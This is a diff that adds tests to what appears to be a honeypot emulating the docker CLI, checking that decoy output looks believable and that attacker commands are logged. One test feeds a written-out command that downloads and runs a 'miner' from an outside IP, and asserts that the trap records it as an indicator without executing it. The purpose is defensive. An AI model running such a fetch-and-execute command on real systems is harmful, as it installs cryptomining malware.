@@ -43,6 +43,21 @@ describe('trap: real docker CLI', () => {
     expect(r.stdout).toBe('pwned\nx86_64\n');
   });
 
+  it('docker run -i feeds a script on stdin: it is analysed and answered, nothing runs', async () => {
+    const r = await dockerAsync(env, ['run', '-i', '--rm', 'alpine', 'sh'], 'id\nwget -q http://198.51.100.60/miner -O /tmp/m && /tmp/m\n');
+    expect(r.code).toBe(0);
+    expect(r.stdout).toMatch(/^uid=0\(root\)/);
+    const stdinCmds = t.eventsOf('trap.command.observed').filter((e) => e.field === 'stdin').map((e) => e.command);
+    expect(stdinCmds).toEqual(['id', 'wget -q http://198.51.100.60/miner -O /tmp/m', '/tmp/m']);
+    expect(indicators(t, 'url')).toContain('http://198.51.100.60/miner');
+  });
+
+  it('docker stats --no-stream reads believable samples for every running decoy', async () => {
+    const r = await dockerAsync(env, ['stats', '--no-stream', '--format', '{{.Name}} {{.PIDs}} {{.MemUsage}}']);
+    expect(r.code).toBe(0);
+    expect(r.stdout).toMatch(/^web 3 9MiB \/ 15\.52GiB$/m);
+  });
+
   it('docker ps shows the decoys and the session\'s containers', async () => {
     const r = await dockerAsync(env, ['ps', '-a', '--format', '{{.Names}} {{.Image}} {{.Status}}']);
     expect(r.code).toBe(0);
